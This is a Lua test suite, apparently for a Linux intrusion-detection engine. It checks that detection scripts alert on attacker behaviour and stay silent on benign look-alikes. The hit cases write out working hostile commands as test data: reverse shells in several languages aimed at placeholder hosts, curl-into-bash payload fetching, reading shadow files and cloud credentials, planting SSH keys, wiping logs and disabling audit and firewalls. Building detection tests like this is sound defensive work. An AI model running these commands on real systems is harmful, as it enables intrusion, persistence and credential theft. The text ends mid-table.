-- Every script of scripts/: what it is for makes it tell, what looks alike does not, and an event of which
-- nothing is known is no error. On the real kernel: tests/e2e/test_scripts.py.
package.path = "tests/lua/?.lua;" .. package.path
local script_host = require "script_host"

-- As where they run: scripts that are not trusted are interpreted.
setup(function() jit.off() end)
teardown(function() jit.on() end)

local claimed = {}

-- --- what happens -----------------------------------------------------------------------------------

local function ancestors(host, names)
  local process
  for _, name in ipairs(names) do
    process = host:process { comm = name:match "[^/]*$":sub(1, 15), exe = name:find "^/" and name or "/usr/sbin/"
      .. name,
      args = { name }, parent = process, uid = 0, euid = 0, sid = 500 }
  end
  return process
end

-- A program is started. `fields.under`: names of its ancestors, nearest last.
local function exec(args, fields)
  return function(host)
    local own = {}
    for key, value in pairs(fields or {}) do
      own[key] = value
    end
    own.under = nil
    return host:exec(ancestors(host, fields and fields.under or { "systemd", "sshd", "bash" }), args, own)
  end
end

local function sh(text, fields)
  return exec({ "sh", "-c", text }, fields)
end

-- A program, `count` times one argument, and what else is given.
local function stuffed(program, argument, count, ...)
  local args = { program }
  for i = 1, count do
    args[i + 1] = argument
  end
  for i = 1, select("#", ...) do
    args[#args + 1] = select(i, ...)
  end
  return args
end

-- --- the harness ------------------------------------------------------------------------------------

local function told(host)
  return #host.alerts + #host.lines + #host.emitted
end

local function texts(host)
  local result = {}
  for _, alert in ipairs(host.alerts) do
    result[#result + 1] = alert.severity .. " " .. tostring(alert.text)
  end
  return table.concat(result, "\n") .. table.concat(host.lines, "\n")
end

local kinds = { "fork", "exec", "exit", "uid", "gid", "sid", "ptrace", "comm", "coredump", "snapshot", "lost",
  "reload", "storm" }

local function nothing_known(path)
  local host = script_host.new():load(path)
  for _, kind in ipairs(kinds) do
    host:feed(kind, {})
    host:feed(kind, { pid = 7, id = "boot-7-7", args = {}, was = {} })
    host:feed(kind, { pid = 8, id = "boot-8-8", args = { "", "", "-" }, comm = "", exe = "", cwd = "", was = {},
      parent = host:process { pid = 9 } })
    host:feed(kind, { pid = 10, id = "boot-10-10", args = { "sh", "-c" }, comm = "\0\255[%", exe = "/tmp/%s\n(deleted)",
      euid = 0, uid = 0, was = { euid = 7, uid = 7, comm = "%" }, signal = 11, duration = 99, cpu_user = 99,
        tracer = 10,
      phase = "sum", children = 1e6, parent = host:process { pid = 11, args = { "%" }, comm = "%" } })
    host:feed(kind, { pid = 12, args = { "bash", "-c", "'\"$(`|><&;" .. ("\\"):rep(99) } })
    host:feed(kind, { pid = 13, args = { "sh", "-c", ("(x>"):rep(30000) } })
  end
  host:advance(100000)
  host:finish()
end

-- `claims`: hits and misses, each { [what] = act }; `options` for all of them; a hit may be
-- { act, options = {...}, severity = "high", says = "text" }.
local function script(name, claims)
  claimed[name] = claims
  local path = "scripts/" .. name .. ".lua"
  local function run(case)
    local act = type(case) == "table" and case[1] or case
    local options = type(case) == "table" and case.options or claims.options
    local host = script_host.new():load(path, options)
    act(host)
    return host, type(case) == "table" and case or {}
  end
  describe(name, function()
    for what, case in pairs(claims.hits) do
      it("tells of " .. what, function()
        local host, wanted = run(case)
        assert.is_true(told(host) > 0, "said nothing")
        if wanted.severity then
          assert.equal(wanted.severity, host.alerts[1].severity, texts(host))
        end
        if wanted.says then
          assert.is_truthy(texts(host):find(wanted.says, 1, true), texts(host))
        end
        for _, alert in ipairs(host.alerts) do
          assert.is_truthy(alert.text and alert.tags and alert.tags[1]:find "^attack%.t%d+", "a text and tags")
        end
      end)
    end
    for what, case in pairs(claims.misses) do
      it("is silent about " .. what, function()
        local host = run(case)
        assert.equal(0, told(host), texts(host))
      end)
    end
    it("takes events of which nothing is known", function()
      nothing_known(path)
    end)
  end)
end

-- --- the scripts ------------------------------------------------------------------------------------

local peer = { sockets = { { fd = 0, family = "inet", type = "tcp", remote_ip = "10.9.8.7", remote_port = 4444 } } }

script("reverse-shell", {
  hits = {
    ["nc -e"] = exec { "nc", "-e", "/bin/sh", "example.com", "22" },
    ["nc with flags in one"] = exec { "nc.traditional", "-nve", "/bin/bash", "10.0.0.1", "80" },
    ["ncat --sh-exec"] = exec { "/usr/bin/ncat", "10.0.0.1", "443", "--sh-exec", "/bin/bash" },
    ["nc under another name of its file"] = exec({ "kworker", "-e", "/bin/sh", "h", "1" },
      { exe = "/usr/bin/nc.traditional" }),
    ["busybox nc"] = exec({ "busybox", "nc", "10.0.0.1", "80", "-e", "/bin/sh" }),
    ["socat"] = exec { "socat", "TCP:10.0.0.1:4444", "EXEC:'bash -li',pty,stderr,setsid" },
    ["bash and /dev/tcp"] = sh "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    ["a loop over /dev/tcp"] = exec { "bash", "-c",
      "exec 5<>/dev/tcp/1.2.3.4/44;cat <&5|while read l;do $l 2>&5 >&5;done" },
    ["a named pipe and nc"] = sh "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    ["a named pipe and openssl"] = sh "mkfifo /tmp/s; sh -i </tmp/s 2>&1|openssl s_client -connect h:1 >/tmp/s|sh ",
    ["python"] = exec({ "python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));'
      .. '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' }, { exe = "/usr/bin/python3.11" }),
    ["perl"] = exec { "perl", "-e", 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,'
      .. 'inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");' },
    ["ruby"] = exec { "ruby", "-rsocket", "-e",
      'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d",f)' },
    ["php"] = exec { "php", "-r", '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");' },
    ["awk"] = exec { "awk",
      'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1){do{ s |& getline c; while ((c |& getline) > 0)'
      .. ' print $0 |& s; system(c)} while(c != "exit")}}' },
    ["a shell whose input is a connection"] = { exec({ "sh", "-i" }, { answers = peer }), says = "10.9.8.7 port 4444",
      severity = "critical" },
    ["a shell without arguments whose input is one"] = exec({ "/bin/bash" }, { answers = peer }),
  },
  misses = {
    ["a port check"] = sh "timeout 1 bash -c '</dev/tcp/localhost/5432'",
    ["a request by a shell"] = sh "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
    ["a port scan"] = exec { "bash", "-c",
      "for port in {1..9}; do (2>/dev/null echo >/dev/tcp/192.168.1.1/$port); done" },
    ["nc that looks whether a port is open"] = exec { "nc", "-z", "host", "22" },
    ["nc with TLS"] = exec { "nc", "-c", "host", "443" },
    ["a forwarder"] = exec { "socat", "TCP-LISTEN:80,fork", "TCP:10.0.0.1:80" },
    ["python with a socket"] = exec { "python3", "-c", "import socket; print(socket.gethostname())" },
    ["python that runs a shell"] = exec { "python3", "-c", "import os; os.system('/bin/sh build.sh')" },
    ["a shell at a terminal"] = exec({ "bash", "-i" }, { answers = { sockets = {} } }),
    ["a shell with a local socket"] = exec({ "sh" }, { answers = { sockets = { { fd = 0, family = "unix",
      path = "/run/x" } } } }),
    ["a script of a service with a connection"] = exec({ "sh", "/usr/lib/cgi/x.sh" }, { answers = peer }),
    ["what is left out"] = { exec { "nc", "-e", "/bin/sh", "lab" }, options = { ignore = { " lab" } } },
  },
})

script("shell-under-server", {
  hits = {
    ["a shell under nginx"] = { exec({ "sh", "-c", "id; uname -a" }, { under = { "systemd", "nginx", "nginx" } }),
      says = "nginx" },
    ["one under a php-fpm with a version"] = exec({ "sh", "-c", "wget x" }, { under = { "php-fpm8.2" } }),
    ["curl under postgres"] = exec({ "curl", "http://x/a" }, { under = { "postgres", "postgres" } }),
    ["python under redis, shells between"] = exec({ "python3", "-c", "1" }, { under = { "redis-server", "sh", "sh" } }),
    ["a shell under tomcat"] = function(host)
      local java = host:process { comm = "java", args = { "java", "-Dcatalina.base=/srv" },
        exe = "/usr/lib/jvm/bin/java" }
      host:exec(java, { "bash", "-c", "id" })
    end,
    ["a server of one's own"] = { exec({ "sh", "-c", "id" }, { under = { "webd" } }),
      options = { servers = { "webd" } } },
  },
  misses = {
    ["a shell elsewhere"] = exec { "bash", "-c", "id" },
    ["mail by PHP"] = exec({ "sh", "-c", "/usr/sbin/sendmail -t -i" }, { under = { "php-fpm8.2" } }),
    ["piped logs"] = exec({ "sh", "-c", "/usr/bin/rotatelogs /var/log/x 86400" }, { under = { "apache2" } }),
    ["a server that starts its workers"] = exec({ "nginx", "-g", "daemon off;" }, { under = { "systemd", "sh" } }),
    ["a shell that starts a server"] = exec({ "sh", "-c", "nginx" }, { under = { "systemd" } }),
    ["java without an application server"] = exec({ "sh", "-c", "id" }, { under = { "java" } }),
  },
})

script("exec-from-writable", {
  hits = {
    ["a program in /tmp"] = { exec { "/tmp/packed_bin" }, severity = "medium" },
    ["one in /dev/shm"] = exec { "/dev/shm/.x/kworker" },
    ["one in memory"] = { exec({ "ls" }, { exe = "/memfd:a", deleted = true }), severity = "high" },
    ["one without a file"] = { exec({ "/usr/bin/x" }, { deleted = true }), severity = "high" },
    ["a script in /tmp"] = exec { "sh", "/tmp/art.sh" },
    ["a script in /var/tmp with options before"] = exec({ "bash", "-x", "/var/tmp/.hidden/x" }),
    ["a directory of one's own"] = { exec { "/scratch/x" }, options = { dirs = { "/scratch/" } } },
  },
  misses = {
    ["a program in /usr"] = exec { "/usr/bin/tmp" },
    ["a directory that begins alike"] = exec { "/tmpfiles/x" },
    ["the test programs of go"] = exec { "/tmp/go-build123/b001/x.test" },
    ["runc's copy of itself"] = exec({ "runc", "init" }, { exe = "/memfd:runc_cloned:/proc/self/exe", deleted = true }),
    ["a file in /tmp that is an argument"] = exec { "sh", "build.sh", "/tmp/out" },
    ["a shell that is told about /tmp"] = sh "ls /tmp/x",
    ["scripts when they are not asked for"] = { exec { "sh", "/tmp/art.sh" }, options = { scripts = false } },
  },
})

local function becomes_root(fields, then_)
  return function(host)
    local process = host:process { comm = "bash", exe = fields.exe or "/usr/bin/bash", args = { "bash" }, uid = 1000,
      parent = ancestors(host, { "sshd" }) }
    host:feed("uid", { pid = process.pid, id = process.id, comm = process.comm, exe = process.exe, args = process.args,
      parent = process.parent, euid = 0, uid = fields.uid or 1000, was = { euid = fields.before or 1000,
        uid = fields.was or 1000 } })
    if then_ then
      host:feed("exec", { pid = process.pid, id = process.id, comm = then_:match "[^/]*$", exe = then_,
        args = { then_ },
        euid = 0, uid = 1000, parent = process.parent })
    end
    host:advance(1)
  end
end

script("setuid-gain", {
  hits = {
    ["a planted setuid program"] = { becomes_root({}, "/home/u/.x/suid"), severity = "critical",
      says = "by the program" },
    ["an unknown one of the system"] = { becomes_root({}, "/usr/bin/find"), severity = "high" },
    ["a change without an exec"] = { becomes_root {}, says = "by a call" },
    ["a planted sudo"] = becomes_root({}, "/tmp/sudo"),
  },
  misses = {
    ["sudo"] = becomes_root({}, "/usr/bin/sudo"),
    ["ping"] = becomes_root({}, "/bin/ping"),
    ["a service that takes root back"] = becomes_root { exe = "/usr/sbin/sshd" },
    ["root that had put its effective id aside"] = becomes_root({ was = 0 }, nil),
    ["root that stays root"] = becomes_root({ before = 0 }, "/usr/bin/x"),
    ["what one adds"] = { becomes_root({}, "/usr/bin/mytool"), options = { helpers = { "mytool" } } },
  },
})

local function attaches(tracer, target, child)
  return function(host)
    tracer.args = tracer.args or { tracer.comm }
    local from = host:process(tracer)
    target.parent = child and from or ancestors(host, { "systemd" })
    target.tracer = from.pid
    target.pid, target.id = 77, "boot-77-77"
    host:feed("ptrace", target)
  end
end

script("ptrace-across-users", {
  hits = {
    ["another user's process"] = { attaches({ comm = "x", euid = 1000 }, { comm = "sshd", euid = 0 }),
      severity = "critical" },
    ["root that reads a user's agent"] = { attaches({ comm = "gdb", euid = 0 }, { comm = "ssh-agent", euid = 1000 }),
      severity = "medium" },
    ["a stranger of the same user"] = attaches({ comm = "inject", euid = 1000 }, { comm = "firefox", euid = 1000 }),
  },
  misses = {
    ["a debugger and a process of one user"] = attaches({ comm = "gdb", euid = 1000 }, { comm = "a.out", euid = 1000 }),
    ["its own child"] = attaches({ comm = "tracer", euid = 1000 }, { comm = "a.out", euid = 1000 }, true),
    ["the crash handler"] = attaches({ comm = "apport", euid = 0 }, { comm = "x", euid = 1000 }),
    ["one that looks at itself"] = function(host)
      host:process { pid = 5, comm = "x", euid = 1000, args = { "x" } }
      host:feed("ptrace", { pid = 5, id = "boot-5-5", tracer = 5, euid = 1000, parent = ancestors(host, { "bash" }) })
    end,
    ["one that lets go"] = function(host) host:feed("ptrace", { pid = 5, tracer = 0, euid = 1000 }) end,
    ["strangers when they are not asked for"] =
      { attaches({ comm = "x", euid = 7 }, { comm = "y", euid = 7 }), options = { strangers = false } },
  },
})

script("cron-persistence", {
  hits = {
    ["a table that is made writable"] = exec { "chattr", "-i", "/var/spool/cron/root" },
    ["a crontab from a file"] = { exec { "crontab", "/tmp/persistevil" }, severity = "medium" },
    ["one from the input"] = exec { "crontab", "-" },
    ["at"] = exec { "at", "now", "+", "1", "minute" },
    ["a shell that writes below /etc/cron.d"] = { sh "echo '* * * * * root x' > /etc/cron.d/persistevil",
      says = "/etc/cron.d/" },
    ["one that adds to root's"] = sh 'echo "x" >> /var/spool/cron/crontabs/root',
    ["tee"] = exec { "tee", "-a", "/etc/crontab" },
    ["a copy"] = exec { "cp", "-f", "x", "/etc/cron.hourly/" },
  },
  misses = {
    ["attributes of another file"] = exec { "chattr", "+i", "/etc/resolv.conf" },
    ["a crontab that is shown"] = exec { "crontab", "-l" },
    ["the queue of at"] = exec { "at", "-l" },
    ["a package"] = exec({ "cp", "x", "/etc/cron.d/x" }, { under = { "apt-get", "dpkg", "x.postinst" } }),
    ["a file that is read"] = sh "cat < /etc/crontab > /tmp/x",
    ["a copy from there"] = exec { "cp", "/etc/crontab", "/tmp/" },
    ["cron at work"] = exec({ "/usr/sbin/cron", "-f" }, { under = { "systemd" } }),
  },
})

script("service-persistence", {
  hits = {
    ["a unit that a shell writes"] = sh 'echo "[Unit]" > /etc/systemd/system/art.service',
    ["a unit out of /tmp"] = { exec { "systemctl", "link", "/tmp/atomic_tmp.service" }, severity = "high" },
    ["a unit that is enabled"] = { exec { "systemctl", "--now", "enable", "art.timer" }, severity = "low",
      says = "art.timer" },
    ["a transient timer"] = exec { "systemd-run", "--unit=x", "--on-calendar", "*:0/1", "/bin/sh", "-c", "x" },
    ["rc.local"] = exec { "tee", "-a", "/etc/rc.local" },
    ["a unit that is edited"] = exec { "sed", "-i", "s|ExecStart=.*|ExecStart=/x|", "/etc/systemd/system/a.service" },
    ["a script of init"] = exec { "update-rc.d", "x", "defaults" },
    ["a unit of a user"] = exec { "cp", "x.service", "/home/u/.config/systemd/user/x.service" },
  },
  misses = {
    ["the state of a unit"] = exec { "systemctl", "status", "enable.service" },
    ["a unit that is started"] = exec { "systemctl", "start", "nginx" },
    ["a package"] = exec({ "systemctl", "enable", "nginx" }, { under = { "apt-get", "dpkg", "nginx.postinst" } }),
    ["a command that runs once"] = exec { "systemd-run", "--wait", "/bin/true" },
    ["the settings of the journal"] = exec { "sed", "-i", "s/a/b/", "/etc/systemd/journald.conf" },
    ["enable when it is not asked for"] = { exec { "systemctl", "enable", "x" }, options = { enable = false } },
  },
})

script("ssh-keys", {
  hits = {
    ["a shell that adds a key"] = { sh "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", severity = "high" },
    ["one that names home by a tilde"] = sh 'echo "$k" > ~/.ssh/authorized_keys',
    ["tee"] = exec { "tee", "-a", "/home/u/.ssh/authorized_keys" },
    ["sshd's settings"] = exec { "sed", "-i", "s/#PermitRootLogin.*/PermitRootLogin yes/", "/etc/ssh/sshd_config" },
  },
  misses = {
    ["keys that are read"] = exec { "cat", "/root/.ssh/authorized_keys" },
    ["known hosts"] = sh "ssh-keyscan h >> ~/.ssh/known_hosts",
    ["cloud-init"] = exec({ "tee", "/root/.ssh/authorized_keys" }, { under = { "cloud-init" } }),
    ["a key that is made"] = exec { "ssh-keygen", "-f", "/root/.ssh/id_rsa" },
  },
})

script("shell-profile", {
  hits = {
    ["a line for .bashrc"] = { sh "echo 'x' >> ~/.bashrc", severity = "low" },
    ["a file in profile.d"] = { sh "echo '# x' >> /etc/profile.d/bash_completion.sh", severity = "medium" },
    ["a preloaded library"] = { sh "echo /tmp/T1574006.so > /etc/ld.so.preload", severity = "high" },
    ["tee and a preloaded library"] = exec { "tee", "-a", "/etc/ld.so.preload" },
    ["a hook of Python"] = sh 'echo "import os" > "$SITE_PACKAGES/atomic_hook.pth"',
  },
  misses = {
    ["a profile that is read"] = exec { "cat", "/root/.bashrc" },
    ["an account that is made"] = exec({ "cp", "/etc/skel/.bashrc", "/home/u/.bashrc" }, { under = { "useradd" } }),
    ["another file"] = sh "echo x >> ~/.bashrc.bak",
    ["users' files when they are not asked for"] = { sh "echo x >> ~/.bashrc", options = { users = false } },
  },
})

script("log-wiping", {
  hits = {
    ["rm"] = exec { "rm", "-rf", "/var/log/messages" },
    ["truncate"] = exec { "truncate", "-s", "0", "/var/log/messages" },
    ["truncate with a long option"] = exec { "truncate", "--size=0", "/var/log/security" },
    ["a shell that empties"] = sh "cat /dev/null > /var/log/messages",
    ["one that only redirects"] = sh "> /var/log/wtmp",
    ["dd"] = exec { "dd", "of=/var/log/syslog", "if=/dev/zero", "count=9" },
    ["shred"] = exec { "shred", "-u", "/var/log/auth.log" },
    ["a link to nothing"] = exec { "ln", "-sf", "/dev/null", "/root/.bash_history" },
    ["history in a shell's text"] = { exec { "bash", "-c", "set +o history; history -c" }, says = "history" },
    ["history that goes nowhere"] = exec { "bash", "-c", 'export HISTFILE="/dev/null"; whoami' },
    ["the history of bash"] = exec { "rm", "/root/.bash_history" },
    ["the journal"] = exec { "journalctl", "--vacuum-time=0" },
  },
  misses = {
    ["logrotate"] = exec({ "rm", "/var/log/x.7.gz" }, { under = { "systemd", "logrotate", "sh" } }),
    ["another file"] = exec { "rm", "-f", "/var/lib/x" },
    ["a log that is read"] = exec { "tail", "/var/log/syslog" },
    ["a program that writes its log"] = sh "make > /var/log/build.log 2>&1",
    ["a log that is put away"] = exec { "cp", "/var/log/syslog", "/backup/" },
    ["the journal that is shown"] = exec { "journalctl", "-u", "x" },
    ["history that is shown"] = exec { "bash", "-c", "history | tail" },
  },
})

script("defence-off", {
  hits = {
    ["a root certificate"] = exec { "update-ca-certificates" },
    ["audit that is stopped"] = exec { "systemctl", "stop", "auditd.service" },
    ["an agent that is disabled"] = exec { "systemctl", "--now", "disable", "falcon-sensor.service" },
    ["a service of old"] = exec { "service", "rsyslog", "stop" },
    ["chkconfig"] = exec { "chkconfig", "off", "cbdaemon" },
    ["rules of audit that go"] = { exec { "auditctl", "-D" }, severity = "high" },
    ["SELinux"] = exec { "setenforce", "0" },
    ["the firewall"] = exec { "ufw", "disable" },
    ["its rules"] = exec({ "iptables", "-F" }, { exe = "/usr/sbin/xtables-nft-multi" }),
    ["address randomisation"] = exec { "sysctl", "-w", "kernel.randomize_va_space=0" },
    ["the settings of audit"] = exec { "sed", "-i", "$ a #x", "/etc/audit/auditd.conf" },
    ["an agent that is killed"] = exec { "pkill", "-9", "osqueryd" },
  },
  misses = {
    ["certificates of a package"] = exec({ "update-ca-certificates" }, { under = { "dpkg", "x.postinst" } }),
    ["another service"] = exec { "systemctl", "stop", "nginx" },
    ["audit that is restarted"] = exec { "systemctl", "restart", "auditd" },
    ["rules that are listed"] = exec { "iptables", "-L", "-n" },
    ["an upgrade"] = exec({ "systemctl", "stop", "rsyslog" }, { under = { "apt-get", "dpkg", "rsyslog.prerm" } }),
    ["SELinux that is asked"] = exec { "getenforce" },
    ["rules of audit that are shown"] = exec { "auditctl", "-l" },
    ["settings that are read"] = exec { "cat", "/etc/audit/auditd.conf" },
  },
})

script("who-ran-what", {
  hits = {
    ["a program at a terminal"] = { exec({ "ls", "-l" }, { tty = "pts/1", time = 1e9 }), says = "ls -l" },
    ["one that stems from a login"] = { exec({ "make" }, { loginuid = 1000, euid = 0 }), says = "1000 as 0" },
    ["a service when asked for"] = { exec({ "x" }), options = { services = true } },
  },
  misses = {
    ["a service"] = exec({ "logrotate" }, { under = { "systemd", "cron" } }),
    ["another user than the one asked for"] = { exec({ "ls" }, { loginuid = 1000 }), options = { users = { "1001" } } },
    ["what is left out"] = { exec({ "starship", "prompt" }, { tty = "pts/1" }), options = { ignore = { "starship" } } },
  },
})

local function crash(times, fields)
  return function(host)
    for _ = 1, times do
      local process = host:process { comm = "served", exe = "/usr/bin/served", args = { "served" }, euid = 7,
        parent = ancestors(host, { fields.under or "systemd" }) }
      host:exit(process, { signal = fields.signal, core = fields.core, code = fields.code })
      host:advance(fields.every or 10)
    end
  end
end

script("crash-loop", {
  hits = {
    ["three crashes within ten minutes"] = { crash(3, { signal = 11, core = true }), says = "SIGSEGV" },
    ["aborts"] = crash(3, { signal = 6 }),
    ["two when asked for"] = { crash(2, { signal = 7 }), options = { crashes = 2 } },
  },
  misses = {
    ["two crashes"] = crash(2, { signal = 11 }),
    ["a crash each day"] = crash(9, { signal = 11, every = 86400 }),
    ["one that is ended"] = crash(9, { signal = 15 }),
    ["one that fails"] = crash(9, { code = 1 }),
    ["a fuzzer's"] = crash(9, { signal = 11, under = "afl-fuzz" }),
  },
})

local function forks(count, fields)
  return function(host)
    local parent = ancestors(host, { "sshd", "bash" })
    for i = 1, count do
      local child = { comm = "bash", uid = 1000, sid = fields.sid and fields.sid(i) or 5, parent = parent }
      host:feed("fork", host:process(child))
      if fields.ends then
        host:exit(child, { code = 0 })
      end
      host:advance(fields.every or 0.001)
    end
  end
end

local function storm(fields)
  return function(host)
    fields.pid = host:process { comm = "x", parent = ancestors(host, { "bash" }) }.pid
    fields.phase, fields.uid, fields.sid = "sum", 1000, 5
    host:feed("storm", fields)
  end
end

script("fork-bomb", {
  hits = {
    ["one that it may not stop"] = { forks(400, {}), options = { stop = true }, says = "400" },
    ["a session that grows"] = { forks(400, {}), severity = "high", says = "400 processes more" },
    ["fewer when asked for"] = { forks(50, {}), options = { grown = 50 } },
    ["many children of one name in a storm"] = { storm { children = 900, distinct = 1 }, says = "a storm" },
  },
  misses = {
    ["a build, whose processes end"] = forks(3000, { ends = true }),
    ["slow growth"] = forks(900, { every = 0.1 }),
    ["many sessions"] = forks(900, { sid = function(i) return i end }),
    ["many children of many names in a storm"] = storm { children = 900, distinct = 40 },
  },
})

local function commands(lines, fields)
  return function(host)
    local shell = ancestors(host, fields and fields.under or { "sshd", "bash" })
    for i, line in ipairs(lines) do
      local args = {}
      for word in line:gmatch "%S+" do
        args[#args + 1] = word
      end
      host:exec(shell, args, { sid = fields and fields.sids and i or 77 })
      host:advance(fields and fields.every or 1)
    end
  end
end

local looks = { "whoami", "id", "uname -a", "cat /etc/passwd", "ip addr", "ps aux", "sudo -l", "find / -perm -4000",
  "w" }

script("recon-burst", {
  hits = {
    ["many questions of one session"] = { commands(looks), severity = "medium", says = "whoami" },
    ["fewer when asked for"] = { commands { "id", "w", "ps" }, options = { commands = 3 } },
  },
  misses = {
    ["the same question again and again"] = commands { "ps a", "ps a", "ps a", "ps a", "ps a", "ps a", "ps a",
      "ps a", "ps a" },
    ["many sessions"] = commands(looks, { sids = true }),
    ["questions over an hour"] = commands(looks, { every = 600 }),
    ["an inventory"] = commands(looks, { under = { "systemd", "facter" } }),
    ["work"] = commands { "make", "gcc x.c", "cat x.c", "ls", "git status", "vi x.c", "rm x.o", "grep x y", "tar c x" },
  },
})

local function steps(list, fields)
  return function(host)
    local shell = ancestors(host, { "sshd", "bash" })
    for _, args in ipairs(list) do
      local exe = args[1]:find "^%./" and "/home/u/" .. args[1]:sub(3) or nil
      host:exec(shell, args, { sid = 77, exe = exe })
      host:advance(fields and fields.every or 1)
    end
  end
end

script("download-and-execute", {
  hits = {
    ["a script that was fetched"] = { steps { { "curl", "-sO", "https://x/atomic.sh" }, { "chmod", "+x", "atomic.sh" },
      { "bash", "atomic.sh" } }, severity = "high", says = "curl" },
    ["a program behind -o"] = steps { { "curl", "-s", "http://x/1", "-o", "/tmp/.k" }, { "/tmp/.k" } },
    ["a program of wget"] = steps { { "wget", "-q", "http://x/a/miner?x=1" }, { "./miner" } },
    ["a file of wget -O"] = steps { { "wget", "-O", "/tmp/x", "http://h/y" }, { "sh", "/tmp/x" } },
    ["a copy by scp"] = steps { { "scp", "u@h:/tmp/tool", "." }, { "./tool" } },
    ["curl into a shell"] = { sh "curl -s https://x/pipe-to-shell.sh |bash", severity = "medium" },
    ["wget into a shell with arguments"] = sh "wget -qO- http://x | sh -s -- -y",
    ["curl into sudo"] = sh "curl -s http://x | sudo bash",
    ["what was decoded"] = { exec { "bash", "-c", "echo aWQ= | base64 -d | bash" }, says = "decoded" },
  },
  misses = {
    ["a download that is read"] = steps { { "curl", "-sO", "https://x/a.tar" }, { "tar", "xf", "a.tar" } },
    ["another script"] = steps { { "curl", "-sO", "https://x/a.sh" }, { "bash", "b.sh" } },
    ["the same name, but later"] = steps({ { "curl", "-O", "https://x/a.sh" }, { "bash", "a.sh" } }, { every = 3600 }),
    ["a download without a file"] = steps { { "curl", "https://x/api" }, { "jq", "." } },
    ["curl into another program"] = sh "curl -s http://x | jq .name",
    ["a shell that comes later"] = sh "curl -s http://x | tar x; bash build.sh",
    ["a shell script that reads what is decoded"] = sh "echo aWQ= | base64 -d > x; sh y",
    ["decoding"] = sh "base64 -d x",
    ["what is left out"] = { sh "curl https://sh.rustup.rs | sh", options = { ignore = { "sh.rustup.rs" } } },
  },
})

script("kernel-module", {
  hits = {
    ["insmod"] = { exec { "insmod", "/tmp/T1547006.ko" }, severity = "critical" },
    ["modprobe from a shell"] = { exec { "modprobe", "diamorphine" }, severity = "medium" },
    ["kmod"] = exec({ "kmod", "insert", "x" }, {}) and exec { "insmod", "x" },
    ["a file through udev"] = exec({ "insmod", "./x.ko" }, { under = { "systemd-udevd" } }),
    ["removal"] = { exec { "rmmod", "nf_tables" }, severity = "low" },
    ["modprobe of busybox"] = exec({ "busybox", "modprobe", "x" }, { comm = "busybox" }),
  },
  misses = {
    ["a list"] = exec({ "lsmod" }, { exe = "/usr/bin/kmod" }),
    ["a list of kmod"] = exec { "kmod", "list" },
    ["udev"] = exec({ "modprobe", "-b", "usbhid" }, { under = { "systemd", "systemd-udevd" } }),
    ["the kernel"] = exec({ "modprobe", "-q", "--", "net-pf-10" }, { under = { "kthreadd" } }),
    ["what would be loaded"] = exec { "modprobe", "-n", "-v", "x" },
    ["removal when it is not asked for"] = { exec { "rmmod", "x" }, options = { remove = false } },
  },
})

local function env(name, value)
  return { answers = { environ = { { name = "HOME", value = "/" }, { name = name, value = value } } } }
end

script("ld-preload", {
  hits = {
    ["a library in /tmp"] = { exec({ "ls" }, env("LD_PRELOAD", "/tmp/T1574006.so")), severity = "high" },
    ["the second of two"] = exec({ "ls" }, env("LD_PRELOAD", "libc.so.6:./x.so")),
    ["an audit library"] = exec({ "ls" }, env("LD_AUDIT", "/home/u/a.so")),
    ["a shell's text"] = sh "LD_PRELOAD=/tmp/T1574006.so ls",
    ["env"] = exec { "env", "LD_PRELOAD=/dev/shm/x.so", "ls" },
    ["env behind more variables than fit on a stack"] =
      exec(stuffed("env", "A=", 9000, "LD_PRELOAD=/dev/shm/x.so", "ls")),
  },
  misses = {
    ["a library of the system"] = exec({ "ls" }, env("LD_PRELOAD", "/usr/lib/libfakeroot.so")),
    ["one without a directory"] = exec({ "ls" }, env("LD_PRELOAD", "libeatmydata.so")),
    ["another variable"] = exec({ "ls" }, env("LD_LIBRARY_PATH", "/tmp/x")),
    ["an empty one"] = exec({ "ls" }, env("LD_PRELOAD", "")),
    ["one that cannot be asked"] = exec { "ls" },
    ["what is beyond the limit"] = { function(host)
      exec({ "ls" }, env("HOME", "/"))(host)
      exec({ "ls" }, env("LD_PRELOAD", "/tmp/x.so"))(host)
    end, options = { per_second = 1 } },
    ["what is left out"] = { exec({ "ls" }, env("LD_PRELOAD", "/home/u/lib/x.so")),
      options = { ignore = { "/home/u/lib" } } },
  },
})

script("credential-files", {
  hits = {
    ["shadow through an editor"] = sh 'echo "e /etc/shadow" | ed > /tmp/x',
    ["cat of shadow"] = { exec { "cat", "/etc/shadow" }, severity = "high", says = "/etc/shadow" },
    ["a path with dots"] = exec { "cat", "../../../../etc/shadow" },
    ["a shell that reads shadow itself"] = sh 'testcat(){ while read l; do echo "$l"; done < /etc/shadow; }',
    ["a search for keys"] = exec { "find", "/", "-name", "id_rsa" },
    ["a key that is packed"] = exec { "tar", "cz", "/home/u/.ssh/id_ed25519" },
    ["the cloud's credentials"] = exec { "find", "//.aws", "-name", "credentials", "-type", "f" },
    ["the metadata service"] = exec { "curl", "-s",
      "http://169.254.169.254/latest/meta-data/iam/security-credentials/" },
    ["memory of another process"] = exec { "dd", "if=/proc/4711/mem", "of=/tmp/x" },
    ["a known tool"] = exec { "python3", "/tmp/LaZagne/Linux/laZagne.py", "browsers" },
    ["passwords in files"] = { exec { "grep", "-ri", "password", "/" }, severity = "low" },
    ["a token of kubernetes"] = exec { "cat", "/run/secrets/kubernetes.io/serviceaccount/token" },
    ["a file that one adds"] = { exec { "cat", "/srv/token.txt" }, options = { files = { "/srv/token" } } },
  },
  misses = {
    ["ssh that uses a key"] = exec { "ssh", "-i", "/home/u/.ssh/id_rsa", "h" },
    ["a key that is made"] = exec { "ssh-keygen", "-t", "ed25519", "-f", "/home/u/.ssh/id_ed25519" },
    ["a public key"] = exec { "cat", "/home/u/.ssh/id_rsa.pub" },
